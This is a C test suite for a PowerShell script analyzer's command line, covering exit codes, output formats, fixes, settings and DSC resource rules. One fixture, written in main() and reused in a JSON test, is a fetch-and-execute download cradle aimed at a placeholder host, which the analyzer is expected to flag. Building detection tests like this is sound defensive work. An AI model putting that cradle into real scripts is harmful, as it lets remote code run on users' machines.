/* test-analyzer-cli.c: `psscript analyze` exit codes, formats and the SARIF 2.1.0 shape */
#include "config.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <json-c/json.h>

#include "bin/analyze_cli.h"
#include "analyzer/analyzer.h"
#include "core/core.h"
#include "t.h"

static char tmpdir[] = "/tmp/pss-analyze-XXXXXX";
static struct buf out;

static void
write_file(const char *name, const char *content)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	f = fopen(path, "wb");
	if (f == NULL)
		abort();
	fputs(content, f);
	fclose(f);
}

/* Run the CLI with argv (NULL-terminated, after "analyze"); capture stdout in out. */
static int
run(const char *const *args)
{
	char *argv[32];
	int argc = 0, rc, saved_out, saved_err, fd, devnull;
	char path[512], chunk[4096];
	ssize_t n;

	argv[argc++] = (char *)"analyze";
	for (; *args != NULL && argc < 31; args++) {
		static char bufs[32][512];

		if (strncmp(*args, "@/", 2) == 0)	/* @/name: a file in the temp dir */
			snprintf(bufs[argc], sizeof(bufs[argc]), "%s/%s", tmpdir, *args + 2);
		else if (strcmp(*args, "@") == 0)
			snprintf(bufs[argc], sizeof(bufs[argc]), "%s", tmpdir);
		else
			snprintf(bufs[argc], sizeof(bufs[argc]), "%s", *args);
		argv[argc] = bufs[argc];
		argc++;
	}
	argv[argc] = NULL;
	snprintf(path, sizeof(path), "%s/stdout", tmpdir);
	fflush(stdout);
	fflush(stderr);
	saved_out = dup(1);
	saved_err = dup(2);
	fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0600);
	devnull = open("/dev/null", O_WRONLY);
	dup2(fd, 1);
	dup2(devnull, 2);
	rc = analyze_cli_main(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(saved_out, 1);
	dup2(saved_err, 2);
	close(saved_out);
	close(saved_err);
	close(devnull);
	buf_reset(&out);
	lseek(fd, 0, SEEK_SET);
	while ((n = read(fd, chunk, sizeof(chunk))) > 0)
		buf_append(&out, chunk, (size_t)n);
	close(fd);
	buf_putc(&out, '\0');
	out.len--;
	return rc;
}

static void
test_exit_status_clean_is_0(void)
{
	const char *a[] = { "@/clean.ps1", NULL };

	T_EQ(run(a), 0);
	T_CONTAINS(out.data, "0 errors, 0 warnings");
}

static void
test_exit_status_findings_at_fail_on_is_1(void)
{
	const char *a[] = { "@/bad.ps1", NULL };
	const char *none[] = { "@/bad.ps1", "--fail-on", "none", NULL };
	const char *info[] = { "@/info.ps1", "--fail-on", "information", NULL };
	const char *info_err[] = { "@/info.ps1", NULL };

	T_EQ(run(a), 1);
	T_EQ(run(none), 0);
	T_EQ(run(info), 1);
	T_EQ(run(info_err), 0);
}

static void
test_exit_status_usage_and_io_errors_are_2(void)
{
	const char *missing[] = { "@/no-such-file.ps1", NULL };
	const char *badopt[] = { "--bogus", "@/clean.ps1", NULL };
	const char *badfmt[] = { "--format", "xml", "@/clean.ps1", NULL };
	const char *badsev[] = { "--severity", "fatal", "@/clean.ps1", NULL };
	const char *badrule[] = { "--include-rule", "NoSuchRule", "@/clean.ps1", NULL };
	const char *noargs[] = { NULL };

	T_EQ(run(missing), 2);
	T_EQ(run(badopt), 2);
	T_EQ(run(badfmt), 2);
	T_EQ(run(badsev), 2);
	T_EQ(run(badrule), 2);
	T_EQ(run(noargs), 2);
}

static void
test_text_is_compiler_style(void)
{
	const char *a[] = { "@/bad.ps1", NULL };
	char want[600];

	run(a);
	snprintf(want, sizeof(want), "%s/bad.ps1:1:1: error: ", tmpdir);
	T_CONTAINS(out.data, want);
	T_CONTAINS(out.data, "[PSSAvoidDownloadCradle]");
}

static void
test_json_equals_the_stored_analysis(void)
{
	const char *a[] = { "--format", "json", "@/bad.ps1", NULL };
	const char *src = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n";
	struct ps_analysis *an = NULL;
	struct json_object *mine, *cli;

	T_EQ(run(a), 1);
	cli = json_tokener_parse(out.data);
	T_ASSERT(cli != NULL);
	T_EQ(ps_analyze(src, strlen(src), NULL, &an), PSS_OK);
	mine = ps_analysis_to_json(an);
	T_ASSERT(json_object_equal(cli, mine));
	T_ASSERT(json_object_object_get(cli, "securityIssues") != NULL);
	T_ASSERT(json_object_object_get(cli, "codeQualityScore") != NULL);
	json_object_put(cli);
	json_object_put(mine);
	ps_analysis_free(an);
}

static struct json_object *
path(struct json_object *o, const char *const *keys)
{
	for (; o != NULL && *keys != NULL; keys++) {
		if (json_object_is_type(o, json_type_array))
			o = json_object_array_get_idx(o, (size_t)strtoul(*keys, NULL, 10));
		else
			o = json_object_object_get(o, *keys);
	}
	return o;
}

static void
test_sarif_shape(void)
{
	const char *a[] = { "--format", "sarif", "@/bad.ps1", "@/aliases.ps1", NULL };
	struct json_object *log, *results, *rules;
	size_t nrules, nfix = 0;
	const char *const version[] = { "version", NULL };
	const char *const rpath[] = { "runs", "0", "tool", "driver", "rules", NULL };
	const char *const respath[] = { "runs", "0", "results", NULL };

	ps_rules(&nrules);
	T_EQ(run(a), 1);
	log = json_tokener_parse(out.data);
	T_ASSERT(log != NULL);
	T_STREQ(json_object_get_string(path(log, version)), "2.1.0");
	T_CONTAINS(json_object_get_string(json_object_object_get(log, "$schema")), "sarif-schema-2.1.0");
	rules = path(log, rpath);
	T_EQ(json_object_array_length(rules), nrules);
	results = path(log, respath);
	T_ASSERT(results != NULL && json_object_array_length(results) >= 3);
	for (size_t i = 0; results != NULL && i < json_object_array_length(results); i++) {
		struct json_object *r = json_object_array_get_idx(results, i), *fixes;
		const char *const region[] = { "locations", "0", "physicalLocation", "region",
		    "startLine", NULL };
		const char *const uri[] = { "locations", "0", "physicalLocation", "artifactLocation",
		    "uri", NULL };
		const char *const msg[] = { "message", "text", NULL };
		const char *lvl = json_object_get_string(json_object_object_get(r, "level"));
		int ri = json_object_get_int(json_object_object_get(r, "ruleIndex"));

		T_ASSERT(strcmp(lvl, "error") == 0 || strcmp(lvl, "warning") == 0 ||
		    strcmp(lvl, "note") == 0);
		T_ASSERT(json_object_get_int(path(r, region)) >= 1);
		T_ASSERT(path(r, uri) != NULL && path(r, msg) != NULL);
		T_STREQ(json_object_get_string(json_object_object_get(r, "ruleId")),
		    json_object_get_string(json_object_object_get(
		    json_object_array_get_idx(rules, (size_t)ri), "id")));
		if ((fixes = json_object_object_get(r, "fixes")) != NULL) {
			const char *const del[] = { "0", "artifactChanges", "0", "replacements", "0",
			    "deletedRegion", "startColumn", NULL };
			const char *const desc[] = { "0", "description", "text", NULL };

			nfix++;
			T_ASSERT(json_object_get_int(path(fixes, del)) >= 1);
			T_ASSERT(path(fixes, desc) != NULL);
		}
	}
	T_ASSERTF(nfix >= 1, "no result carries a fix");
	json_object_put(log);
}

static void
test_directory_and_rule_filters(void)
{
	const char *dir[] = { "--format", "json", "--fail-on", "none", "@", NULL };
	const char *only[] = { "--include-rule", "PSAvoidUsingCmdletAliases", "--fail-on",
	    "warning", "@/aliases.ps1", NULL };
	const char *excl[] = { "--exclude-rule", "PSAvoidUsingCmdlet*,PSUseCorrect*", "--fail-on",
	    "warning", "@/aliases.ps1", NULL };
	struct json_object *arr;

	T_EQ(run(dir), 0);
	arr = json_tokener_parse(out.data);
	T_ASSERT(arr != NULL && json_object_array_length(arr) == 4);	/* *.ps1 only */
	json_object_put(arr);
	T_EQ(run(only), 1);
	T_CONTAINS(out.data, "PSAvoidUsingCmdletAliases");
	T_ASSERT(strstr(out.data, "PSAvoidTrailing") == NULL);
	run(excl);
	T_ASSERT(strstr(out.data, "PSAvoidUsingCmdletAliases") == NULL);
}

/* read_back: the file's content (static buffer) or "" */
static const char *
read_back(const char *name)
{
	static char data[4096];
	char path[512];
	FILE *f;
	size_t n;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	if ((f = fopen(path, "rb")) == NULL)
		return "";
	n = fread(data, 1, sizeof(data) - 1, f);
	data[n] = '\0';
	fclose(f);
	return data;
}

/* --fix writes the fixed text, keeps FILE.bak, and reports what is left; --no-backup
 * keeps no copy; a clean file is not rewritten. */
static void
test_fix_applies_edits(void)
{
	static const char orig[] = "gci . | % { rm $_ }\n$d = date\nif ($d -eq $null) { 1 }  \n";
	const char *fix[] = { "--fix", "--fail-on", "none", "@/fix.ps1", NULL };
	const char *nobak[] = { "--fix", "--no-backup", "--fail-on", "none", "@/nobak.ps1", NULL };
	const char *clean[] = { "--fix", "@/clean.ps1", NULL };
	struct stat st;
	char p[600];

	write_file("fix.ps1", orig);
	write_file("nobak.ps1", "Get-Process | ? { $_.CPU -gt 1 }\n");
	T_EQ(run(fix), 0);
	T_STREQ(read_back("fix.ps1"), "Get-ChildItem . | ForEach-Object { Remove-Item $_ }\n"
	    "$d = Get-Date\nif ($null -eq $d) { 1 }\n");
	T_STREQ(read_back("fix.ps1.bak"), orig);
	/* the report is of the fixed text */
	T_ASSERT(strstr(out.data, "PSAvoidUsingCmdletAliases") == NULL);
	T_EQ(run(nobak), 0);
	T_STREQ(read_back("nobak.ps1"), "Get-Process | Where-Object { $_.CPU -gt 1 }\n");
	snprintf(p, sizeof(p), "%s/nobak.ps1.bak", tmpdir);
	T_ASSERT(stat(p, &st) != 0);
	T_EQ(run(clean), 0);
	snprintf(p, sizeof(p), "%s/clean.ps1.bak", tmpdir);
	T_ASSERT(stat(p, &st) != 0);
}

static void
test_settings_file(void)
{
	const char *good[] = { "--settings", "@/lint.psd1", "--fail-on", "warning",
	    "@/aliases.ps1", NULL };
	const char *bad[] = { "--settings", "@/bad.psd1", "@/aliases.ps1", NULL };
	const char *missing[] = { "--settings", "@/none.psd1", "@/aliases.ps1", NULL };
	const char *deflt[] = { "--fail-on", "none", "@/long.ps1", NULL };
	const char *longs[] = { "--settings", "@/lint.psd1", "--fail-on", "none", "@/long.ps1",
	    NULL };

	/* gci allowed, ? still an alias */
	T_EQ(run(good), 1);
	T_CONTAINS(out.data, "'?' is an alias");
	T_ASSERT(strstr(out.data, "'gci'") == NULL);
	T_EQ(run(bad), 2);
	T_EQ(out.len, 0);
	T_EQ(run(missing), 2);
	/* PSAvoidLongLines is off by default, on with the settings (maximum 30) */
	run(deflt);
	T_ASSERT(strstr(out.data, "PSAvoidLongLines") == NULL);
	run(longs);
	T_CONTAINS(out.data, "(maximum 30). [PSAvoidLongLines]");
}

static void
test_show_suppressed(void)
{
	const char *text[] = { "--fail-on", "none", "@/suppressed.ps1", NULL };
	const char *shown[] = { "--show-suppressed", "--fail-on", "none", "@/suppressed.ps1",
	    NULL };
	const char *json[] = { "--show-suppressed", "--format", "json", "--fail-on", "none",
	    "@/suppressed.ps1", NULL };
	const char *sarif[] = { "--format", "sarif", "--fail-on", "none", "@/suppressed.ps1",
	    NULL };
	struct json_object *o, *v;

	run(text);
	T_CONTAINS(out.data, "(1 suppressed)");
	T_ASSERT(strstr(out.data, "PSAvoidUsingWriteHost") == NULL);
	run(shown);
	T_CONTAINS(out.data, ":3:1: suppressed: ");
	T_CONTAINS(out.data, "[PSAvoidUsingWriteHost] (a console menu)");
	run(json);
	o = json_tokener_parse(out.data);
	T_ASSERT(o != NULL && json_object_object_get_ex(o, "suppressedFindings", &v) &&
	    json_object_array_length(v) == 1);
	json_object_put(o);
	run(sarif);
	T_CONTAINS(out.data, "\"suppressions\"");
	T_CONTAINS(out.data, "\"inSource\"");
	T_CONTAINS(out.data, "\"a console menu\"");
}

static void
put(const char *dir, const char *name, const char *content)
{
	char path[512];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if ((f = fopen(path, "wb")) == NULL)
		abort();
	fputs(content, f);
	fclose(f);
}

static size_t
count_of(const char *hay, const char *needle)
{
	size_t n = 0;

	for (const char *p = hay; (p = strstr(p, needle)) != NULL; p += strlen(needle))
		n++;
	return n;
}

/* PSDSCDscExamplesPresent and PSDSCDscTestsPresent: the files naming a resource (any case)
 * in Examples and Tests beside DSCResources (a resource module) or beside the file (a
 * class-based resource); only for files read from disk, never for stdin. */
static void
test_dsc_examples_and_tests_folders(void)
{
	char root[] = "/tmp/pss-dsc-XXXXXX", p[256], mod[384], cls[384];
	const char *fns = "function Get-TargetResource { param([Parameter(Mandatory)][string]$Name)"
	    " Write-Verbose 'get'; @{ Name = $Name } }\n"
	    "function Set-TargetResource { param([Parameter(Mandatory)][string]$Name)"
	    " Write-Verbose 'set' }\n"
	    "function Test-TargetResource { [OutputType([bool])] param([Parameter(Mandatory)]"
	    "[string]$Name) Write-Verbose 'test'; $true }\n";
	const char *klass = "[DscResource()]\nclass MyRes {\n  [DscProperty(Key)] [string] $Name\n"
	    "  [MyRes] Get() { return $this }\n  [void] Set() { }\n"
	    "  [bool] Test() { return $true }\n}\n";
	const char *args[] = { "--format", "text", "--fail-on", "none", mod, cls, NULL };
	const char *in[] = { "--fail-on", "none", "-", NULL };

	if (mkdtemp(root) == NULL)
		abort();
	snprintf(p, sizeof(p), "%s/xRes/DSCResources/MSFT_xThing", root);
	T_EQ(system((snprintf(mod, sizeof(mod), "mkdir -p '%s' '%s/Cls'", p, root), mod)), 0);
	put(p, "MSFT_xThing.psm1", fns);
	snprintf(mod, sizeof(mod), "%s/MSFT_xThing.psm1", p);
	snprintf(p, sizeof(p), "%s/Cls", root);
	put(p, "MyRes.psm1", klass);
	snprintf(cls, sizeof(cls), "%s/MyRes.psm1", p);
	run(args);
	T_CONTAINS(out.data, "No examples found for resource 'MSFT_xThing'. [PSDSCDscExamplesPresent]");
	T_CONTAINS(out.data, "No tests found for resource 'MSFT_xThing'. [PSDSCDscTestsPresent]");
	T_CONTAINS(out.data, "No examples found for resource 'MyRes'.");
	T_CONTAINS(out.data, "No tests found for resource 'MyRes'.");
	/* a folder of that name, or a file not naming the resource, is not an example */
	snprintf(p, sizeof(p), "mkdir -p '%s/xRes/Examples/MSFT_xThing' '%s/xRes/Tests' "
	    "'%s/Cls/Examples' && touch '%s/xRes/Tests/Other.Tests.ps1' "
	    "'%s/Cls/Examples/myres_example1.ps1'", root, root, root, root, root);
	T_EQ(system(p), 0);
	run(args);
	T_EQ(count_of(out.data, "[PSDSCDscExamplesPresent]"), 1);
	T_CONTAINS(out.data, "No examples found for resource 'MSFT_xThing'.");
	T_EQ(count_of(out.data, "[PSDSCDscTestsPresent]"), 2);
	snprintf(p, sizeof(p), "touch '%s/xRes/Examples/MSFT_xThing_Add.ps1' "
	    "'%s/xRes/Tests/msft_xthing.tests.ps1' '%s/Cls/MyRes.Tests.ps1'", root, root, root);
	T_EQ(system(p), 0);
	run(args);
	T_EQ(count_of(out.data, "[PSDSCDscExamplesPresent]"), 0);
	T_EQ(count_of(out.data, "[PSDSCDscTestsPresent]"), 1);	/* MyRes: Tests, not beside */
	/* the same text from stdin (no folder to look at) */
	{
		int fd = open(cls, O_RDONLY), saved = dup(0);

		dup2(fd, 0);
		run(in);
		dup2(saved, 0);
		close(saved);
		close(fd);
	}
	T_ASSERT(strstr(out.data, "PSDSCDsc") == NULL);
	snprintf(p, sizeof(p), "rm -rf '%s'", root);
	T_EQ(system(p), 0);
}

int
main(void)
{
	if (mkdtemp(tmpdir) == NULL)
		return 1;
	write_file("clean.ps1", "<#\n.SYNOPSIS\nShows the date.\n#>\nGet-Date\n");
	write_file("bad.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n");
	write_file("info.ps1", "Get-Date  \n");
	write_file("aliases.ps1", "gci | ? { $_.Length -gt 1 }\n");
	write_file("notes.txt", "not a script\n");
	T_RUN(test_exit_status_clean_is_0);
	T_RUN(test_exit_status_findings_at_fail_on_is_1);
	T_RUN(test_exit_status_usage_and_io_errors_are_2);
	T_RUN(test_text_is_compiler_style);
	T_RUN(test_json_equals_the_stored_analysis);
	T_RUN(test_sarif_shape);
	T_RUN(test_directory_and_rule_filters);
	/* written after the directory test, which counts the scripts of the folder */
	write_file("lint.psd1", "@{\n  Rules = @{\n    PSAvoidUsingCmdletAliases = @{ allowlist = "
	    "@('gci') }\n    PSAvoidLongLines = @{ Enable = $true; MaximumLineLength = 30 }\n  }\n}\n");
	write_file("bad.psd1", "@{ Rules = @{ PSAvoidLongLines = @{ Enable = $yes } } }\n");
	write_file("suppressed.ps1", "[Diagnostics.CodeAnalysis.SuppressMessageAttribute("
	    "'PSAvoidUsingWriteHost', '', Justification = 'a console menu')]\nparam()\n"
	    "Write-Host 'menu'\n");
	write_file("long.ps1", "Write-Output 'a line longer than thirty characters'\n");
	T_RUN(test_settings_file);
	T_RUN(test_show_suppressed);
	T_RUN(test_fix_applies_edits);
	T_RUN(test_dsc_examples_and_tests_folders);
	{
		const char *names[] = { "clean.ps1", "bad.ps1", "info.ps1", "aliases.ps1",
		    "notes.txt", "stdout", "lint.psd1", "bad.psd1", "long.ps1",
		    "suppressed.ps1", "fix.ps1", "fix.ps1.bak", "nobak.ps1" };
		char p[600];

		for (size_t i = 0; i < PSS_ARRAY_LEN(names); i++) {
			snprintf(p, sizeof(p), "%s/%s", tmpdir, names[i]);
			unlink(p);
		}
		rmdir(tmpdir);
	}
	buf_free(&out);
	return t_done();
}
